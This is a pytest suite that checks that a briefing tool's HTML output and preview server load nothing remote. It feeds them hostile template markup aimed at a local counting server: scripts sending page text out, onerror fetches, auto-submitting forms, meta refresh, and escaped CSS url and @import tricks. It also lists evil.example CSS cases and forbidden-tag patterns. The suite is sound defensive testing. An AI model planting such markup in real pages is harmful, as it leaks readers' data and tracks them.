"""Briefs are inert documents: whatever a received template writes, the HTML brief runs nothing and
loads nothing, opened from disk or in the preview; it carries a Content-Security-Policy.

Every address the hostile template names is a counting server on 127.0.0.1: a request that
reaches it is a brief calling another site.  The same markup written straight to a file (not
built) does reach it, which shows the counter counts.
"""

from __future__ import annotations

import re
import shutil
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result

from briefing.formats.sanitize import CONTENT_SECURITY_POLICY, POLICY_META, css_is_inert, inert_html

ROOT = Path(__file__).resolve().parent.parent
CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"


class Counter:
    """An HTTP server on 127.0.0.1 that records the path of every request it gets."""

    def __init__(self) -> None:
        hits: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(b"<p>counted</p>")

            do_POST = do_GET

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self.hits = hits
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def counter() -> Iterator[Counter]:
    running = Counter()
    yield running
    running.server.shutdown()
    running.server.server_close()


def _hostile_head(base: str) -> str:
    return f"""<meta http-equiv="refresh" content="0;url={base}/refresh">
<base href="{base}/base/">
<link rel="stylesheet" href="{base}/link.css">
<link rel="prefetch" href="{base}/prefetch">
<script>location.href = "{base}/script?" + encodeURIComponent(document.body.innerText.slice(0, 80));</script>
<style>body {{ background: url({base}/style-url.png); }} @import url("{base}/import.css");</style>"""


def _hostile_body(base: str) -> str:
    return f"""<img src="{base}/img.png" onerror="fetch('{base}/onerror')" alt="">
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" srcset="{base}/srcset.png 1x" alt="">
<iframe src="{base}/iframe"></iframe><object data="{base}/object"></object><embed src="{base}/embed">
<form action="{base}/form" method="post"><input name="q" value="x" autofocus onfocus="this.form.submit()"></form>
<video src="{base}/video" poster="{base}/poster.png" autoplay></video><audio src="{base}/audio" autoplay></audio>
<svg><image href="{base}/svg-image.png"/><use href="{base}/use.svg#a"/><rect fill="url({base}/fill.svg#p)"/>
<script>fetch("{base}/svg-script")</script></svg>
<div style="background-image: url('{base}/style-attribute.png')">styled</div>
<p style="background: \\75 rl({base}/escaped.png)">escaped</p>
<p class="kept"><a href="https://www.pism.pl/">a source, to click</a> <a href="#sources">within the brief</a></p>"""


def _hostile_override(folder: Path, base: str) -> Path:
    """An override brief.html that adds the hostile markup to the head and the lead."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "brief.html").write_text(
        '{% extends "default:base.html" %}\n'
        f"{{% block head %}}{{{{ super() }}}}\n{_hostile_head(base)}\n{{% endblock %}}\n"
        f"{{% block lead %}}\n{_hostile_body(base)}\n{{{{ super() }}}}\n{{% endblock %}}\n",
        encoding="utf-8",
    )
    return folder


FORBIDDEN = [
    r"<script",
    r"\son\w+\s*=",
    r"http-equiv=\"refresh\"",
    r"<iframe",
    r"<object",
    r"<embed",
    r"<base\b",
    r"<link\b",
    r"<form",
    r"<input",
    r"<video",
    r"<audio",
    r"<image\b",
    r"srcset",
    r"@import",
    r"127\.0\.0\.1",
]


def _open_in_chromium(url: str, wait: float = 2.0) -> tuple[str, list[str]]:
    """Open ``url``, wait for refreshes and late loads, and give back the final URL and any
    requests Chromium made to a host other than the preview's own pages."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])
        page = browser.new_page()
        requested: list[str] = []
        page.on("request", lambda request: requested.append(request.url))
        page.goto(url)
        page.wait_for_timeout(wait * 1000)
        final = page.url
        browser.close()
    return final, requested


def _build(cli: Callable[..., Result], repo_root: Path, overrides: Path, out: Path) -> Path:
    result = cli(
        "brief", "-a", "industry", "--format", "html", "--out", out, "--data", repo_root / "data",
        "--templates", overrides,
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    (html,) = sorted(path for path in out.glob("*.html") if not path.name.endswith(".sources.html"))
    return html


def test_the_counter_counts_what_unclean_markup_loads(counter: Counter, tmp_path: Path) -> None:
    """The same markup, not built (no cleaning, no policy): Chromium does call the counter."""
    raw = tmp_path / "raw.html"
    raw.write_text(
        f"<!DOCTYPE html><html><head>{_hostile_head(counter.base)}</head><body><p>TLP:GREEN text</p>"
        f"{_hostile_body(counter.base)}</body></html>",
        encoding="utf-8",
    )
    _open_in_chromium(raw.as_uri())
    assert counter.hits, "the counting server saw no request from the unclean page"


def test_a_hostile_template_makes_an_inert_brief_opened_from_disk(
    cli: Callable[..., Result], repo_root: Path, tmp_path: Path, counter: Counter
) -> None:
    html = _build(cli, repo_root, _hostile_override(tmp_path / "tpl", counter.base), tmp_path / "out")
    text = html.read_text(encoding="utf-8")
    for pattern in FORBIDDEN:
        assert not re.search(pattern, text, re.IGNORECASE), f"{pattern} reached the brief"
    # What the template may write is still there: the brief, its styles and charts, links to click.
    assert "<svg" in text and "<style>" in text and 'id="fn-1"' in text
    assert '<a href="https://www.pism.pl/">a source, to click</a>' in text and 'href="#sources"' in text
    assert "styled" in text and "escaped" in text
    assert text.count(POLICY_META) == 1 and text.index(POLICY_META) < text.index("<style>")

    final, requested = _open_in_chromium(html.as_uri())
    assert counter.hits == [], f"the brief called another site: {counter.hits}"
    assert final == html.as_uri(), "the brief navigated away"
    assert [url for url in requested if not url.startswith(("file:", "data:"))] == []


def test_a_hostile_template_makes_an_inert_preview(repo_root: Path, tmp_path: Path, counter: Counter) -> None:
    """The received-dossier case in ``generate serve``: the dossier names its own templates."""
    data = tmp_path / "data"
    shutil.copytree(repo_root / "data", data)
    _hostile_override(data / "tpl", counter.base)
    dossier = data / "dossier.yaml"
    dossier.write_text(dossier.read_text(encoding="utf-8").replace("dossier:\n", "dossier:\n  templates: [tpl]\n", 1))
    stdout = tmp_path / "stdout.txt"
    with stdout.open("wb") as out:
        process = subprocess.Popen(
            [sys.executable, str(ROOT / "generate.py"), "serve", "--port", "0", "--data", str(data), "-a", "industry"],
            stdout=out,
            stderr=subprocess.STDOUT,
            cwd=tmp_path,
        )
    try:
        deadline = time.monotonic() + 60
        while not (found := re.search(r"http://127\.0\.0\.1:(\d+)/", stdout.read_text(errors="replace"))):
            assert process.poll() is None and time.monotonic() < deadline, stdout.read_text(errors="replace")
            time.sleep(0.1)
        page = f"http://localhost:{found.group(1)}/industry.html"
        final, requested = _open_in_chromium(page)
        assert counter.hits == [], f"the preview called another site: {counter.hits}"
        assert final == page
        # Only the preview itself: the page and its event stream for reloading.
        assert {url.split("?")[0] for url in requested} <= {page, f"http://localhost:{found.group(1)}/events"}
        assert f"http://localhost:{found.group(1)}/events" in requested, "the reload script did not run"
    finally:
        process.kill()
        process.wait()


def test_the_preview_policy_allows_only_its_own_script_by_nonce(tmp_path: Path) -> None:
    from briefing.preview.serve import PAGE_POLICY, preview_page

    page = inert_html(
        '<!DOCTYPE html>\n<html lang="en">\n<head>\n<meta charset="utf-8">\n</head>\n<body><p>x</p></body>\n</html>\n'
    )
    served = preview_page(page, 7, "N0NCE")
    assert POLICY_META not in served
    assert served.count("<script") == 1 and '<script nonce="N0NCE">' in served
    policy = PAGE_POLICY.format(nonce="N0NCE")
    assert "script-src 'nonce-N0NCE'" in policy and "unsafe-inline'; img" not in policy.split("script-src")[1][:30]


@pytest.mark.parametrize(
    ("css", "inert"),
    [
        ("p { color: red }", True),
        ("p { background: url(data:image/png;base64,AAAA) }", True),
        ("rect { fill: url(#gradient) }", True),
        ("p { background: url(https://evil.example/x.png) }", False),
        ("p { background: URL( 'https://evil.example/x.png' ) }", False),
        ("@import 'https://evil.example/x.css';", False),
        ("p { background: \\75 rl(https://evil.example/x.png) }", False),
        ("p { background: u\\72l(//evil.example/x.png) }", False),
        ("p { background-image: image-set('https://evil.example/x.png' 1x) }", False),
        ("@font-face { src: url(fonts/a.ttf) }", False),
        ("p { background: url(&#104;ttps://evil.example/) }", False),
    ],
)
def test_css_that_would_fetch_is_told_apart(css: str, inert: bool) -> None:
    assert css_is_inert(css) is inert


def test_the_policy_forbids_scripts_and_remote_loads() -> None:
    directives = dict(part.strip().split(" ", 1) for part in CONTENT_SECURITY_POLICY.split(";"))
    assert directives["default-src"] == "'none'"
    assert directives["img-src"] == "data:" and directives["font-src"] == "data:"
    assert "script-src" not in directives  # falls back to default-src 'none'


def test_a_document_of_another_shape_is_cleaned_as_a_body() -> None:
    cleaned = inert_html("<p>text</p><script>alert(1)</script><meta http-equiv=refresh content='0;url=x'>")
    assert cleaned.startswith("<!DOCTYPE html>") and POLICY_META in cleaned
    assert "<p>text</p>" in cleaned and "<script" not in cleaned and "refresh" not in cleaned


@pytest.mark.parametrize(
    ("address", "kept"),
    [
        ("poland-south-korea-defence-industry-industry.sources.html#q-pism-1", True),  # a note to its passage
        ("poland-south-korea-defence-industry-industry.html#notes", True),  # the sources page's link back
        ("../elsewhere.html", False),
        ("sub/page.html", False),
        ("/etc/passwd.html", False),
        ("file:///etc/passwd", False),
        (".hidden.html", False),
        ("javascript:alert(1)//.html", False),
        ("page.html?query=1", False),
        ("notes.pdf", False),
    ],
)
def test_only_a_page_beside_the_brief_is_linked_by_a_relative_address(address: str, kept: bool) -> None:
    """A note links to the sources page written beside the brief (a click, nothing loads it); any
    other relative address (another folder, a file that is not a page) is removed."""
    cleaned = inert_html(f'<p><a href="{address}">to click</a></p>')
    assert (f'href="{address}"' in cleaned) is kept, cleaned
    assert "to click" in cleaned
